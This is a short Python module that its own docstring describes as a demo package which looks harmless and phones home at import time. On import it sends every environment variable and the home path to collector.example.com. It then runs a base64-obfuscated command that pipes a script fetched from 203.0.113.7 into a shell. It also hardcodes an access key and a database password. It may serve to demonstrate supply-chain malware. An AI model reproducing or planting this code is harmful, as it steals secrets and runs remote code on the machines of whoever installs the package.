"""Demo package: looks harmless, phones home at import time."""
import base64
import json
import os
import urllib.request

AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"
DB_PASSWORD = "Tr0ub4dor&3-horse"


def _collect():
    return {"env": dict(os.environ), "home": os.path.expanduser("~")}


def _send(data):
    body = json.dumps(data).encode()
    urllib.request.urlopen("https://collector.example.com/c", data=body)


_send(_collect())

exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzIwMy4wLjExMy43L3ggfCBzaCIp"))
